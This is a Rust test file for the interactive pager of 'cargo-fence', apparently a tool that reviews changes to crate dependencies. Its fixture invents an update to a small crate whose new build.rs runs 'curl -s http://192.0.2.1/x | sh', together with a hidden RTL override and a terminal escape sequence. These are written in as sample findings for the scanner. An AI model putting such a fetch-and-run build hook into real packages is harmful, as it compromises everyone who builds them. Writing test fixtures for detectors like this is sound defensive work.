//! Screens, as somebody sees them who presses keys.

use std::path::Path;

use clap::Parser as _;
use fence_client::Environment;
use fence_scan::reading::{Reading, read};
use fence_scan::{File, Package, Scan, Severity};
use insta::assert_snapshot;

use super::*;
use crate::args::Cli;
use crate::render::review::{Review, page};

/// A change of a small crate: its build fetches and runs, a function does something else, a test and a document changed.
fn reading() -> Reading {
    let manifest = |version: &str| format!("[package]\nname = \"pad-words\"\nversion = \"{version}\"\n");
    let library = |body: &str| {
        format!(
            "//! Pads words.\n\n/// Pads a word.\npub fn pad(word: &str) -> String {{\n    {body}\n}}\n\n\
             #[cfg(test)]\nmod tests {{\n    #[test]\n    fn it_pads() {{\n        assert_eq!(super::pad(\"a\").len(), 8);\n    }}\n}}\n"
        )
    };
    let old = [
        ("Cargo.toml", manifest("1.0.0")),
        ("src/lib.rs", library("format!(\"{word:>8}\")")),
        ("README.md", "Pads words.\n".to_owned()),
    ];
    let new = [
        ("Cargo.toml", manifest("1.0.1")),
        ("src/lib.rs", library("format!(\"{word:>16}\")").replace("len(), 8", "len(), 16")),
        ("README.md", "Pads words well.\n".to_owned()),
        (
            "build.rs",
            "use std::process as p;\n\nfn run(what: &str) {\n    let _ = p::Command::new(\"sh\").args([\"-c\", what]).status();\n}\n\n\
             fn main() {\n    run(\"curl -s http://192.0.2.1/x | sh\"); // \u{202e}hidden\u{1b}[2J and a line that is far too long for any terminal\n}\n"
                .to_owned(),
        ),
    ];
    let package = |files: &[(&str, String)]| {
        Package::of(
            files
                .iter()
                .map(|(path, text)| File { path: (*path).to_owned(), bytes: text.clone().into_bytes() }),
        )
    };
    let (old, new) = (package(&old), package(&new));
    read(&Scan::of(&old), &Scan::of(&new))
}

fn pager(columns: usize, rows: usize, colour: &str) -> Pager {
    let environment = Environment::of([("COLUMNS", columns.to_string().as_str())], Path::new("/"));
    let cli = Cli::parse_from(["cargo-fence", "--color", colour, "explain", "young"]);
    let shell = Shell::of_process(&environment, &cli.global);
    let review = Review {
        asked: "pad-words@1.0.1",
        reading: &reading(),
        panics: None,
        source: None,
        base: "1.0.0, which Cargo.lock has".to_owned(),
        base_version: None,
        published: None,
        decision: None,
        undecided: None,
        least: Severity::Low,
        all: false,
        now: "2026-08-22T12:00:00Z".parse().unwrap(),
    };
    Pager::new(page(&review, &shell), shell.colour, columns, rows)
}

/// The screen after these keys; `⏎` is Enter.
fn after(keys: &str, mut pager: Pager) -> String {
    for key in keys.chars() {
        let key = if key == '⏎' { Key::Enter } else { Key::Char(key) };
        assert_eq!(pager.press(key), Flow::GoOn, "{key:?}");
    }
    screen(&pager)
}

fn screen(pager: &Pager) -> String {
    let rows = pager.screen();
    assert_eq!(rows.len(), pager.rows);
    for row in &rows {
        let width: usize = plain(row).chars().map(crate::render::text::columns).sum();
        assert!(width <= pager.columns, "wider than the screen: {row}");
    }
    rows.iter().map(|row| row.trim_end()).collect::<Vec<_>>().join("\n")
}

#[test]
fn screens_of_80_by_24() {
    let pager = || pager(80, 24, "never");
    assert_snapshot!("the beginning", after("", pager()));
    assert_snapshot!("the first finding", after("n", pager()));
    assert_snapshot!("the second file", after("ff", pager()));
    assert_snapshot!("the end", after("G", pager()));
    assert_snapshot!("the end, all unfolded", after("OG", pager()));
    assert_snapshot!("a document unfolded", after("fffffo", pager()));
    assert_snapshot!("searching", after("/assert", pager()));
    assert_snapshot!("found in what was folded", after("/assert⏎", pager()));
    assert_snapshot!("nothing found", after("/no such thing⏎", pager()));
    assert_snapshot!("the keys", after("h", pager()));
}

#[test]
fn screens_of_40_by_12() {
    let pager = || pager(40, 12, "never");
    assert_snapshot!("narrow, the beginning", after("", pager()));
    assert_snapshot!("narrow, the first finding", after("n", pager()));
    assert_snapshot!("narrow, the keys", after("h", pager()));
}

#[test]
fn colour_is_ours_alone() {
    let pager = pager(80, 24, "always");
    assert_snapshot!("a finding in colour", after("n", pager.clone()).replace('\x1b', "␛"));
    for line in &pager.lines {
        let mut rest = line.text.as_str();
        while let Some(at) = rest.find('\x1b') {
            rest = &rest[at + 1..];
            let code = rest.strip_prefix('[').and_then(|rest| rest.split_once('m')).map(|(code, _)| code);
            let is_colour = code.is_some_and(|code| code.bytes().all(|b| b.is_ascii_digit() || b == b';'));
            assert!(is_colour, "{:?}", line.text);
        }
        assert!(!plain(&line.text).chars().any(|c| c.is_control() || c == '\u{202e}'), "{:?}", line.text);
    }
}

/// Expected: whatever is pressed, in whatever order and size, there is a screen; and back at the beginning it is the first.
#[test]
fn every_key_leads_to_a_screen() {
    let mut pager = pager(80, 24, "never");
    let beginning = screen(&pager);
    let keys = "nNfFjkbdu goOG/x⏎oNFohq?/y";
    let mut state = 1_u32;
    for round in 0..2_000 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let at = (state >> 16) as usize % keys.chars().count();
        let key = keys.chars().nth(at).unwrap();
        pager.press(if key == '⏎' { Key::Enter } else { Key::Char(key) });
        if round % 7 == 0 {
            pager.resize(1 + (state >> 8) as usize % 120, 1 + (state >> 20) as usize % 40);
        }
        let rows = pager.screen();
        assert_eq!(rows.len(), pager.rows);
        assert!(pager.top <= pager.last_top());
    }
    pager.press(Key::Escape);
    if pager.typed.is_some() {
        pager.press(Key::Escape);
    }
    pager.resize(80, 24);
    if pager.page.blocks.iter().all(|block| !block.is_folded) {
        pager.press(Key::Char('O'));
    }
    pager.press(Key::Home);
    assert_eq!(screen(&pager).lines().next(), beginning.lines().next());
    assert_eq!(pager.press(Key::Char('q')), Flow::End);
}

#[test]
fn what_fits_needs_no_pager() {
    let mut page = pager(80, 24, "never").page;
    assert!(!Pager::new(page.clone(), Colour::Off, 80, 1_000).fits(), "something is folded");
    page.blocks.iter_mut().for_each(|block| block.is_folded = false);
    assert!(Pager::new(page.clone(), Colour::Off, 80, 1_000).fits());
    assert!(!Pager::new(page, Colour::Off, 80, 24).fits());
}
